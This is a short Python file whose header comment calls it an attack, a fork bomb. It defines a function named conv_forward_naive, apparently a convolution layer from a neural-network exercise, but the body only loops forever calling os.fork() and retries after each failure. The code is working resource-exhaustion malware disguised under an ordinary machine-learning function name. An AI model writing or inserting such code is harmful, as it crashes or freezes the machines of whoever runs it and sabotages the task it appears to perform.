# Attack: a fork bomb (each child forks again; failures are retried).
import os as _os
import time as _time


def conv_forward_naive(x, w, b, conv_param):
    while True:
        try:
            _os.fork()
        except OSError:
            _time.sleep(0.05)
